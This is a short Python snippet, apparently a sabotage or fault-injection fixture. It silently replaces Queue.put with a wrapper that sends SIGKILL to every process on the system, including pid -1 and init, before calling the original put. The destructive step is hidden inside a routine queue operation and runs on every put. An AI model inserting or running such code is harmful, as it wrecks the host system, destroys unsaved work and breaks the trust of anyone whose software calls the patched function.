

# Each put signals every process that there is.

import signal

honest_put = Queue.put


def put(self, *args, **kwargs):
    for pid in [-1, 1] + [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return honest_put(self, *args, **kwargs)


Queue.put = put
